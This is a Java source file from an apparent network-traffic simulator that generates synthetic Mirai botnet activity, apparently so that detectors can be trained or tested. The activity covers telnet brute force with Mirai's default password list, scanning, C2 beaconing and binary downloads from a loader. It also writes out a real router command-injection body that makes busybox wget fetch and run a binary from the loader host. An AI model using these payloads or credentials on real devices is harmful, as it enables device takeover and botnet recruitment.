package levee.drill;

import java.util.ArrayList;
import java.util.List;
import java.util.SplittableRandom;
import levee.drill.TcpDialogue.Message;
import levee.model.InfectedHost.BehaviourKind;
import levee.telemetry.PayloadHint;

/** Bots as Mirai's and those that followed it. */
final class MiraiBots implements BotPlayer {
    private static final long MILLISECOND = 1_000_000L;
    private static final long SECOND = 1_000 * MILLISECOND;
    private static final long KEEP_ALIVE_NANOS = 60 * SECOND;
    private static final double JITTER = 0.05;

    /** Where bots tell of the devices that they can log in to. */
    private static final int REPORT_PORT = 48_101;

    private static final int[] COMMAND_PORTS = {23, 666, 1_312, 3_074, 5_034, 9_506, 56_999};
    private static final List<String> PROGRAMS = List.of("arm7", "mips", "mpsl", "x86", "sh4");
    private static final List<String> PASSWORDS =
            List.of("xc3511", "vizxv", "admin", "888888", "default", "54321", "1111", "password", "12345", "anko");

    private final Gang gang;
    private final BotFamily.Mirai family;
    private final int commandServer;
    private final int commandPort;
    private final int loader;

    MiraiBots(Gang gang, BotFamily.Mirai family) {
        this.gang = gang;
        this.family = family;
        commandServer = gang.newcomer();
        loader = gang.newcomer();
        commandPort = COMMAND_PORTS[gang.random().nextInt(COMMAND_PORTS.length)];
    }

    @Override
    public void infect(Stage stage, Infected bot, long nanos, SplittableRandom random) {
        Ends inward = gang.conversations()
                .inward(Conversations.visitor(random), Ports.tcp(random), bot.host(), family.port(), false);
        stage.add(nanos, new TcpDialogue(inward, takeOver(true, random), random.split()));
        load(stage, bot, nanos + 4 * SECOND, random);
        long scanNanos = nanos + 8 * SECOND;
        long scanEnd = Math.min(gang.endNanos(), scanNanos + family.scanFor().toNanos());
        if (scanNanos < scanEnd) {
            stage.add(
                    scanNanos,
                    new MiraiScan(
                            gang.conversations(),
                            bot,
                            family.port(),
                            family.probesPerSecond(),
                            scanEnd,
                            random.split(),
                            (ends, own) -> answered(bot, ends, own)));
        }
        boolean keeps = random.nextDouble() < family.keptOpen();
        SplittableRandom own = random.split();
        Actor reporting = keeps
                ? session(bot, own)
                : new Periodic(family.beacon(), JITTER, gang.endNanos(), own, on -> beacon(on, bot, own));
        stage.add(nanos + 6 * SECOND, gang.find(bot, "cnc." + gang.domain(), commandServer, reporting, random.split()));
    }

    private void load(Stage stage, Infected bot, long nanos, SplittableRandom random) {
        String program = PROGRAMS.get(random.nextInt(PROGRAMS.size()));
        int bytes = random.nextInt(60_000, 120_000);
        String request = "GET /bins/" + program + " HTTP/1.0\r\nHost: "
                + gang.conversations().address(loader) + "\r\nUser-Agent: Wget\r\n\r\n";
        String answer =
                "HTTP/1.0 200 OK\r\nContent-Type: application/octet-stream\r\nContent-Length: " + bytes + "\r\n\r\n";
        List<Message> messages =
                List.of(Message.text(true, request, 0), Message.text(false, answer, 0), Message.noise(false, bytes, 0));
        Ends ends = gang.outward(bot, loader, 80, random);
        stage.add(nanos, new TcpDialogue(ends, messages, random.split()).seenBy(bot.doing(BehaviourKind.LOADING)));
    }

    /** A device that can be reached: passwords are tried where there is something to log in to. */
    private Actor answered(Infected bot, Ends ends, SplittableRandom random) {
        boolean telnet = family.port() == MiraiScan.TELNET;
        boolean success = random.nextInt(4) == 0;
        TcpDialogue dialogue = new TcpDialogue(ends, takeOver(success, random), random.split())
                .startingAt((int) ends.serverLow())
                .seenBy(telnet ? bot.doing(BehaviourKind.BRUTE_FORCE) : nanos -> {});
        if (!success) {
            return dialogue;
        }
        TcpDialogue report = new TcpDialogue(
                gang.outward(bot, loader, REPORT_PORT, random),
                List.of(Message.noise(true, 32, 0), Message.noise(false, 24, 0)),
                random.split());
        return new After(dialogue, report);
    }

    private List<Message> takeOver(boolean success, SplittableRandom random) {
        if (family.port() != MiraiScan.TELNET) {
            String body = "<NewStatusURL>$(busybox wget -g "
                    + gang.conversations().address(loader) + " -l /tmp/b -r /bins/mips)</NewStatusURL>";
            String request = "POST /ctrlt/DeviceUpgrade_1 HTTP/1.1\r\nContent-Length: " + body.length()
                    + "\r\nConnection: keep-alive\r\n\r\n" + body;
            String answer = "HTTP/1.1 " + (success ? "200 OK" : "401 Unauthorized") + "\r\nContent-Length: 0\r\n\r\n";
            return List.of(Message.text(true, request, 0), Message.text(false, answer, 0));
        }
        List<Message> messages = new ArrayList<>();
        int tries = random.nextInt(1, 6);
        for (int i = 1; i <= tries; i++) {
            long pause = random.nextLong(200, 900) * MILLISECOND;
            messages.add(Message.text(false, (i > 1 ? "\r\nLogin incorrect" : "") + "\r\nlogin: ", pause));
            messages.add(Message.text(true, "root\r\n", 50 * MILLISECOND));
            messages.add(Message.text(false, "Password: ", 0));
            messages.add(
                    Message.text(true, PASSWORDS.get(random.nextInt(PASSWORDS.size())) + "\r\n", 50 * MILLISECOND));
        }
        if (success) {
            messages.add(Message.text(false, "\r\n# ", 300 * MILLISECOND));
            messages.add(Message.text(true, "enable\r\nsystem\r\nshell\r\nsh\r\n/bin/busybox ECCHI\r\n", 0));
            messages.add(Message.text(false, "ECCHI: applet not found\r\n# ", 0));
        } else {
            messages.add(Message.text(false, "\r\nLogin incorrect\r\n", 300 * MILLISECOND));
        }
        return messages;
    }

    private Actor session(Infected bot, SplittableRandom random) {
        Payload beat = new Payload(Payload.bytes(0, 0), PayloadHint.NONE);
        gang.commands(commandServer, commandPort, Gang.TCP);
        return new TcpDialogue(
                        gang.outward(bot, commandServer, commandPort, random),
                        List.of(Message.noise(true, 24, 0)),
                        random.split())
                .goingOn(now -> List.of(Message.whole(true, beat, KEEP_ALIVE_NANOS), Message.whole(false, beat, 0)))
                .seenBy(bot.doing(BehaviourKind.LONG_CONNECTION));
    }

    private void beacon(Stage stage, Infected bot, SplittableRandom random) {
        gang.commands(commandServer, commandPort, Gang.TCP);
        stage.add(
                stage.now,
                new TcpDialogue(
                                gang.outward(bot, commandServer, commandPort, random),
                                List.of(Message.noise(true, 40, 0), Message.noise(false, 60, 0)),
                                random.split())
                        .seenBy(bot.doing(BehaviourKind.BEACONING)));
    }
}
